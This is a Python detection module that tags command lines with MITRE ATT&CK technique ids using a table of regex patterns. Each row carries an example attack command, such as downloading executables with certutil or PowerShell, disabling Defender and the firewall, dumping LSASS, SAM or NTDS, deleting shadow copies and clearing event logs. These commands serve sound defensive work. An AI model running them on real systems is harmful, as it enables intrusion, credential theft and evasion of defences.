"""An execution → ATT&CK technique ids, from a small table of our own: what the program is, and what it was told.

Each row names the programs (without extension), a pattern over the lower-case command line ("" for any), the
technique and an example that runs as a test. The table explains; it never decides what is an anomaly.
"""

import re
from dataclasses import dataclass
from functools import lru_cache


@dataclass(frozen=True, slots=True)
class Technique:
    """One row: ``programs`` separated by spaces, ``told`` a regular expression, and an ``example`` it must match."""

    id: str
    title: str
    programs: str
    told: str
    example: str


TECHNIQUES = (
    Technique("T1197", "BITS Jobs", "bitsadmin", r"", "bitsadmin /transfer n http://1.2.3.4/a.exe c:\\a.exe"),
    Technique("T1105", "Ingress Tool Transfer", "bitsadmin curl wget certutil ftp tftp desktopimgdownldr esentutl", r"://|-s:|urlcache|\bget\b|\\\\", "certutil -urlcache -f http://1.2.3.4/a a.exe"),
    Technique("T1105", "Ingress Tool Transfer", "powershell pwsh", r"downloadfile|downloadstring|downloaddata|invoke-webrequest|\biwr\b|start-bitstransfer|net\.webclient", "powershell iwr http://1.2.3.4/a -outfile a.exe"),
    Technique("T1562.001", "Disable or Modify Tools", "taskkill", r"/im|/pid|-im|-pid", "taskkill /im 360rp.exe /f"),
    Technique("T1562.001", "Disable or Modify Tools", "ntsd cdb", r"-pn?\b", "ntsd -c q -pn 360sd.exe"),
    Technique("T1562.001", "Disable or Modify Tools", "powershell pwsh", r"set-mppreference|add-mppreference", "powershell Set-MpPreference -DisableRealtimeMonitoring 1"),
    Technique("T1489", "Service Stop", "net net1 sc systemctl service", r"\bstop\b", "net stop mssqlserver"),
    Technique("T1562.004", "Disable or Modify System Firewall", "netsh iptables ufw firewall-cmd", r"firewall|-f\b|disable|--add", "netsh advfirewall set allprofiles state off"),
    Technique("T1059.003", "Windows Command Shell", "cmd", r"", "cmd /c whoami"),
    Technique("T1059.001", "PowerShell", "powershell pwsh", r"", "powershell -c 1"),
    Technique("T1059.004", "Unix Shell", "sh bash dash zsh busybox", r"-c\b|-i\b", "sh -c id"),
    Technique("T1059.005", "Visual Basic", "wscript cscript", r"\.vb[se]\b", "cscript a.vbs"),
    Technique("T1059.006", "Python", "python python3 pythonw", r"", "python3 a.py"),
    Technique("T1027", "Obfuscated Files or Information", "powershell pwsh", r"[-/]e(nc?\w*)?\s+[a-z0-9+/=]{16}", "powershell -enc SQBFAFgAIABhAGIAYwBkAGUAZg=="),
    Technique("T1218.011", "Rundll32", "rundll32", r"", "rundll32 a.dll,b"),
    Technique("T1218.010", "Regsvr32", "regsvr32", r"", "regsvr32 /s a.dll"),
    Technique("T1218.005", "Mshta", "mshta", r"", "mshta http://1.2.3.4/a.hta"),
    Technique("T1218.007", "Msiexec", "msiexec", r"/[iyqz]|-[iyqz]", "msiexec /q /i http://1.2.3.4/a.msi"),
    Technique("T1218.004", "InstallUtil", "installutil", r"", "installutil a.dll"),
    Technique("T1218.009", "Regsvcs/Regasm", "regsvcs regasm", r"", "regasm a.dll"),
    Technique("T1127.001", "MSBuild", "msbuild", r"", "msbuild a.xml"),
    Technique("T1140", "Deobfuscate/Decode Files or Information", "certutil", r"decode", "certutil -decode a b"),
    Technique("T1033", "System Owner/User Discovery", "whoami quser query id w", r"", "whoami /priv"),
    Technique("T1082", "System Information Discovery", "systeminfo hostname uname ver", r"", "systeminfo"),
    Technique("T1016", "System Network Configuration Discovery", "ipconfig ifconfig arp route nbtstat ip", r"", "ipconfig /all"),
    Technique("T1049", "System Network Connections Discovery", "netstat ss", r"", "netstat -ano"),
    Technique("T1057", "Process Discovery", "tasklist ps qprocess", r"", "tasklist /v"),
    Technique("T1018", "Remote System Discovery", "net net1 nltest ping", r"\bview\b|dclist|ping", "net view /domain"),
    Technique("T1482", "Domain Trust Discovery", "nltest dsquery", r"trust", "nltest /domain_trusts"),
    Technique("T1087", "Account Discovery", "net net1 dsquery", r"\buser\b(?!.*/add)|\bgroup\b(?!.*/add)", "net user"),
    Technique("T1136", "Create Account", "net net1", r"\buser\b.*/add", "net user x y /add"),
    Technique("T1136", "Create Account", "useradd adduser", r"", "useradd -o -u 0 x"),
    Technique("T1098", "Account Manipulation", "net net1 usermod", r"localgroup\b.*/add|group\b.*/add|-ag", "net localgroup administrators x /add"),
    Technique("T1003.001", "LSASS Memory", "procdump procdump64 rundll32 sqldumper", r"lsass|minidump", "procdump -ma lsass.exe a.dmp"),
    Technique("T1003.002", "Security Account Manager", "reg", r"\bsave\b", "reg save hklm\\sam a"),
    Technique("T1003.003", "NTDS", "ntdsutil esentutl", r"ntds|ifm|/vss", "ntdsutil ifm"),
    Technique("T1112", "Modify Registry", "reg", r"\badd\b|\bdelete\b", "reg add hklm\\x"),
    Technique("T1053.005", "Scheduled Task", "schtasks at", r"", "schtasks /create /tn a"),
    Technique("T1053.003", "Cron", "crontab", r"", "crontab -"),
    Technique("T1543.003", "Windows Service", "sc", r"\bcreate\b|\bconfig\b", "sc create a binpath= b"),
    Technique("T1543.002", "Systemd Service", "systemctl", r"enable|start|daemon-reload", "systemctl enable a"),
    Technique("T1047", "Windows Management Instrumentation", "wmic wmiprvse", r"", "wmic process call create a"),
    Technique("T1021.002", "SMB/Windows Admin Shares", "net net1 psexec psexec64 paexec", r"\\\\", "net use \\\\1.2.3.4\\c$"),
    Technique("T1490", "Inhibit System Recovery", "vssadmin wbadmin bcdedit wmic", r"delete|recoveryenabled|resize", "vssadmin delete shadows /all"),
    Technique("T1070.004", "File Deletion", "del erase rm", r"", "del a.txt"),
    Technique("T1070.001", "Clear Windows Event Logs", "wevtutil", r"\bcl\b|clear", "wevtutil cl security"),
    Technique("T1222", "File and Directory Permissions Modification", "icacls cacls takeown attrib chmod chattr chown", r"", "icacls a /grant x:f"),
    Technique("T1564.001", "Hidden Files and Directories", "attrib", r"\+h", "attrib +h a"),
    Technique("T1560.001", "Archive via Utility", "7z 7za rar winrar makecab", r"\ba\b|-hp|-p", "7z a x.7z y"),
    Technique("T1496", "Resource Hijacking", "xmrig minerd", r"", "xmrig -o pool"),
    Technique("T1496", "Resource Hijacking", "*", r"stratum\+|--donate-level|cryptonight|randomx", "x -o stratum+tcp://pool:3333"),
    Technique("T1046", "Network Service Discovery", "nmap masscan portqry nc ncat", r"", "nmap 10.0.0.0/8"),
)  # fmt: skip

_COMPILED = tuple((frozenset(row.programs.split()), re.compile(row.told), row.id) for row in TECHNIQUES)
_MOST_LOOKED_AT = 8192  # characters of a command line that are looked at
TITLES = {row.id: row.title for row in TECHNIQUES}


@lru_cache(maxsize=65_536)
def techniques(name: str, command_line: str) -> tuple[str, ...]:
    """The technique ids of one execution: ``name`` its file name (any case, with or without extension)."""
    stem = name.lower().rsplit(".", 1)[0] if "." in name else name.lower()
    line = command_line[:_MOST_LOOKED_AT].lower()
    found = (id for programs, told, id in _COMPILED if (stem in programs or "*" in programs) and told.search(line))
    return tuple(dict.fromkeys(found))
